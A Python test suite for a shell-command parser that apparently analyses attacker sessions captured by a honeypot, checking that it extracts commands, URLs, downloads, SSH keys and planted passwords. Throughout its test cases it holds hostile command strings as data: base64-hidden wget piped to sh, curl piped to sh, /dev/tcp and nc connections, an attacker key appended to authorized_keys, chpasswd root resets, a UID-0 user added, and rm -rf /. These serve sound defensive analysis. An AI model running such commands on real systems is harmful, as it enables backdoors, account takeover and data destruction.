import base64

import asyncssh
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from hermes.analysis.shell import MAX_NORMAL, MAX_TEXT, Address, Command, Credential, Download, Parsed, Redirect, normalise, parse
from hermes.analysis.shell_facts import MAX_FACTS, from_base64
from hermes.analysis.shell_tree import MAX_COMMANDS, MAX_WORD

KEY = "AAAAC3NzaC1lZDI1NTE5AAAAINsMPrV2BVYO3UkrrZh41pCm5zHBsBsRVe+vlm5R7zzz"


def names(text: str) -> list[str]:
    return [it.name for it in parse(text).commands]


def words(text: str) -> tuple[str, ...]:
    (command,) = parse(text).commands
    return (command.name, *command.arguments)


# ---- commands


def test_simple_commands_are_found_in_their_order() -> None:
    assert names("cd /tmp || cd /var; wget x && chmod 777 x | tee y & ./x") == ["cd", "cd", "wget", "chmod", "tee", "./x"]
    assert names("if [ -f a ]; then b; else c; fi; for i in 1 2; do d; done; (e); { f; }; x=$(g `h`)") == [
        "b", "c", "d", "e", "f", "", "g", "h",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("echo 'a b' \"c $d\" e\\ f", ("echo", "a b", "c $d", "e f")),
        ("ec\"h\"o a'b'c\\d", ("echo", "abcd")),
        ("echo $'a\\x41\\101\\n'", ("echo", "aAA\n")),
        ('echo "a\\"b\\$c\\d"', ("echo", 'a"b$c\\d')),
        ("/bin/busybox WOPBX", ("/bin/busybox", "WOPBX")),
        ("export HISTFILE=/dev/null", ("export", "HISTFILE=/dev/null")),
    ],
)
def test_words_are_as_the_shell_would_see_them(text: str, found: tuple[str, ...]) -> None:
    assert words(text) == found


def test_redirections_are_those_of_the_command_they_stand_with() -> None:
    first, second = parse("cat a 2>/dev/null | tee b >> c").commands
    assert (first.redirects, second.redirects) == ((Redirect(">", "/dev/null", "2"),), (Redirect(">>", "c"),))
    first, second = parse("cd x && echo y > z").commands
    assert (first.redirects, second.redirects) == ((), (Redirect(">", "z"),))
    assert all(it.redirects == (Redirect(">", "z"),) for it in parse("(echo a; echo b) > z").commands)


def test_commands_of_one_pipeline_know_that_they_are() -> None:
    assert [it.pipeline for it in parse("a | b | c; d; e | f").commands] == [1, 1, 1, 0, 2, 2]


def test_assignments_are_kept() -> None:
    assert parse("PATH=/x LC=C ls").commands == (Command("ls", assignments=("PATH=/x", "LC=C")),)
    assert parse("a=1").commands == (Command("", assignments=("a=1",)),)


def test_a_text_that_is_given_to_a_shell_is_looked_into() -> None:
    commands = parse("sudo sh -c 'wget http://192.0.2.1/a; bash -c \"rm a\"'").commands
    assert [(it.plain()[0], it.nested) for it in commands] == [("sh", 0), ("wget", 1), ("bash", 1), ("rm", 2)]
    assert names("eval 'uname -a'") == ["eval", "uname"]
    assert "id" in names("bash <<< 'id'")
    assert "id" in names("sh <<EOF\nid\nEOF")


def test_what_wraps_a_command_is_taken_off() -> None:
    assert parse("nohup timeout 5 /usr/bin/busybox wget -q x").commands[0].plain() == ("wget", ("-q", "x"))
    assert parse("sudo").commands[0].plain() == ("sudo", ())


def test_text_in_base64_is_decoded_and_looked_into() -> None:
    hidden = base64.b64encode(b"wget http://192.0.2.9/x.sh").decode()
    found = parse(f"echo {hidden} | base64 -d | sh")
    assert found.facts.decoded == ("wget http://192.0.2.9/x.sh",)
    assert found.facts.hosts == ("192.0.2.9",)
    assert "wget" in [it.name for it in found.commands]
    assert parse(f"echo {hidden}").facts.decoded == ()  # nobody decodes it


@pytest.mark.parametrize("word", ["short", "x" * 15, base64.b64encode(bytes(range(128, 256))).decode(), "not base64 at all!", ""])
def test_what_is_no_text_in_base64_is_not_decoded(word: str) -> None:
    assert from_base64(word) is None


# ---- what stands in it


def test_urls_and_hosts_are_found_also_in_words_that_quotes_hide() -> None:
    facts = parse("w'ge't \"http\"://C2-1.example:8080/x.sh; curl 198.51.100.3/y; curl -o /tmp/z [2001:db8::1]:80").facts
    assert facts.urls == ("http://C2-1.example:8080/x.sh",)
    assert set(facts.hosts) == {"c2-1.example", "198.51.100.3", "2001:db8::1"}


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("nc 192.0.2.1 4444", Address("192.0.2.1")),
        ("x 192.0.2.1:23", Address("192.0.2.1", 23)),
        ("x [2001:db8::7]:443", Address("2001:db8::7", 443)),
        ("ping6 2001:DB8::7", Address("2001:db8::7")),
        ("cat < /dev/tcp/192.0.2.5/99", Address("192.0.2.5", 99)),
        ("./miner -o pool.example:3333", Address("pool.example", 3333)),
    ],
)
def test_addresses_are_found(text: str, found: Address) -> None:
    assert found in parse(text).facts.addresses


@pytest.mark.parametrize("text", ["version 1.2.3.4.5", "999.1.1.1", "12:34:56", "a::b::c", "ls -l x.y.z", "1.2.3"])
def test_what_only_looks_like_an_address_is_none(text: str) -> None:
    assert parse(text).facts.addresses == ()


def test_a_public_key_has_its_fingerprint() -> None:
    (key,) = parse(f'mkdir .ssh && echo "ssh-ed25519 {KEY} mdrfckr">>.ssh/authorized_keys').facts.keys
    assert (key.type, key.key, key.comment) == ("ssh-ed25519", KEY, "mdrfckr")
    assert key.fingerprint == asyncssh.import_public_key(f"ssh-ed25519 {KEY}").get_fingerprint()


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("echo root:s3cret|chpasswd|bash", Credential("root", "s3cret")),
        ('echo "root:a b" | sudo chpasswd', Credential("root", "a b")),
        ("chpasswd <<< 'user:pw'", Credential("user", "pw")),
        ("chpasswd <<EOF\nuser:pw\nEOF", Credential("user", "pw")),
        ('echo -e "new1\\nnew1" | passwd root', Credential("root", "new1")),
        ('echo -e "old\\nnew1\\nnew1"|passwd', Credential("", "new1")),
        ("(echo new1; sleep 1; echo new1) | passwd bob", Credential("bob", "new1")),
        ("printf '%s\\n%s\\n' pw pw | passwd bob", Credential("bob", "pw")),
        ("echo pw | passwd --stdin bob", Credential("bob", "pw")),
        ("passwd bob\nhunter2\nhunter2", Credential("bob", "hunter2")),
        ("useradd -o -u 0 -p '$6$salt$hash' eve", Credential("eve", "$6$salt$hash", hashed=True)),
        ("usermod --password=abc eve", Credential("eve", "abc")),
        ("echo 'eve:abcdefghijklm:0:0::/root:/bin/sh' >> /etc/passwd", Credential("eve", "abcdefghijklm", hashed=True)),
        ("sh -c 'echo root:x1|chpasswd'", Credential("root", "x1")),
    ],
)
def test_passwords_that_are_set_are_found(text: str, found: Credential) -> None:
    assert parse(text).facts.credentials == (found,)


@pytest.mark.parametrize(
    "text", ["passwd", "echo a:b", "echo a | passwd", "useradd -m eve", "echo x:x:0:0::/:/bin/sh >> /etc/passwd"]
)
def test_no_password_is_made_up(text: str) -> None:
    assert parse(text).facts.credentials == ()


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("wget http://192.0.2.1/a/x.sh", Download("wget", "http://192.0.2.1/a/x.sh", "x.sh")),
        ("wget -q -O /tmp/y http://192.0.2.1/x", Download("wget", "http://192.0.2.1/x", "/tmp/y")),
        ("/bin/busybox wget -qO- http://192.0.2.1/x > z", Download("wget", "http://192.0.2.1/x", "z")),
        ("curl -fsSL -o /tmp/y 192.0.2.1/x", Download("curl", "192.0.2.1/x", "/tmp/y")),
        ("curl -A 'x.y' -O http://192.0.2.1/x?a=1", Download("curl", "http://192.0.2.1/x?a=1", "x")),
        ("curl http://192.0.2.1/x | sh", Download("curl", "http://192.0.2.1/x", "")),
        ("tftp -g -r f.sh 192.0.2.1", Download("tftp", "192.0.2.1/f.sh", "f.sh")),
        ("tftp 192.0.2.1 -c get f.sh", Download("tftp", "192.0.2.1/f.sh", "f.sh")),
        ("ftpget -v -u a -p b -P 21 192.0.2.1 l.sh r.sh", Download("ftpget", "192.0.2.1/r.sh", "l.sh")),
        ("scp -P 22 me@192.0.2.1:/x/y .", Download("scp", "me@192.0.2.1:/x/y", ".")),
    ],
)
def test_downloads_are_found_with_where_they_go(text: str, found: Download) -> None:
    assert parse(text).facts.downloads == (found,)


# ---- what is alike


@pytest.mark.parametrize(
    ("one", "other", "normal"),
    [
        ("cd /tmp; wget http://192.0.2.1/a.sh", "cd  /tmp ;wget 'http://c2.example:80/b?x=1'", "cd /tmp; wget URL"),
        ("echo root:aB3dE6|chpasswd", 'echo "root:other-one" | chpasswd', "echo root:PASSWORD | chpasswd"),
        ("/bin/busybox WOPBX", "/bin/busybox QRSTU", "/bin/busybox RANDOM"),
        ("echo $((7*191+3))", "echo $((12*4+99))", "echo $((N*N+N))"),
        (f"echo 'ssh-ed25519 {KEY} a' >> k", f'echo "ssh-ed25519 {KEY[:-8]}AAAAzzzz b">>k', "echo KEY >>k"),
        ("nc 192.0.2.1 99", "nc 198.51.100.77 1", "nc ADDRESS N"),
        ("cat /tmp/a1b2c3d4e5f6", "cat /tmp/00ff11aa22bb", "cat /tmp/RANDOM"),
    ],
)
def test_what_differs_by_chance_is_the_same(one: str, other: str, normal: str) -> None:
    assert normalise(parse(one)) == normalise(parse(other)) == normal


def test_what_differs_in_what_it_does_stays_different() -> None:
    lines = ["rm -rf /tmp/x", "rm -rf /", "rm -f /", "ls /", "ls / | sh", "ls / > x", "/bin/busybox ls", "uname -a"]
    assert len({normalise(parse(it)) for it in lines}) == len(lines)


# ---- hostile text


HOSTILE = [
    "(" * 30000,
    "$(" * 30000,
    "a|" * 30000,
    "`" * 30001,
    "<<A " * 10000,
    "${" * 9000,
    "\0" * 500,
    "\udcff\ud800",
    "case a in " * 3000,
]


@pytest.mark.parametrize("text", HOSTILE, ids=lambda it: repr(it[:6]))
def test_a_text_made_to_hurt_is_taken_apart_as_far_as_it_goes(text: str) -> None:
    found = parse(text + "; wget http://192.0.2.1/x")
    assert len(found.commands) <= MAX_COMMANDS
    assert len(normalise(found)) <= MAX_NORMAL


def test_what_is_left_out_is_said() -> None:
    assert parse("ls; " * 10).truncated is False
    assert parse("ls; " * 3000).truncated is True
    assert len(parse("ls; " * 3000).commands) == MAX_COMMANDS
    assert parse("x" * (MAX_TEXT + 1)).truncated is True
    assert len(parse("echo " + "y" * 12000).commands[0].arguments[0]) == MAX_WORD
    assert len(parse(" ".join(f"http://h{number}.example/" for number in range(500))).facts.urls) == MAX_FACTS


def test_what_is_no_shell_is_not_clean() -> None:
    assert parse("uname -a; id").clean
    assert not parse("if (((").clean
    assert names("if ((( ; wget x") != []


PIECES = st.sampled_from(
    [
        *("wget ", "http://", "'", '"', "$(", ")", "`", "|", ";", "&&", "<<EOF\n", "EOF\n", "\\", "${", "}", "echo ", "root:x"),
        *("|chpasswd", "-c ", "sh ", "base64 ", "d2dldCBodHRwOi8vMTkyLjAuMi4x", "192.0.2.1", "[::1]", ":80", "\n", "\x00"),
        *("ssh-rsa AAAA", "passwd ", "-p ", "tftp get ", "$'\\x", "é", "\udc80"),
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(), st.lists(PIECES, max_size=30).map("".join), st.binary().map(lambda it: it.decode("latin-1"))))
@example("tftp get")
@example("http://[")
@example("curl http://[x]:y/")
@example("printf")
@example("scp")
def test_no_text_makes_it_raise(text: str) -> None:
    found = parse(text)
    assert isinstance(found, Parsed)
    assert isinstance(normalise(found), str)
    assert normalise(found) == normalise(parse(text))
